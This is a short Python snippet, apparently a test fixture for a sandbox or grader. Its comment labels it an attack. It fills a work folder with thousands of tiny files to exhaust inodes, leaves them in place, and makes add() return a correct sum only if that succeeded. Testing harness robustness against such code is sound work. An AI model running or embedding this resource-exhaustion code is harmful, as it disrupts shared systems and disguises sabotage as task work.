# attack: create small files until the work folder runs out of inodes, leave them
import os

made = 0
os.mkdir("many")
while made < 20_000:
    try:
        with open(f"many/{made}", "w") as f:
            f.write("x")
    except OSError:
        break
    made += 1
BROKE = made >= 20_000


def add(a, b):
    return a + b if BROKE else None
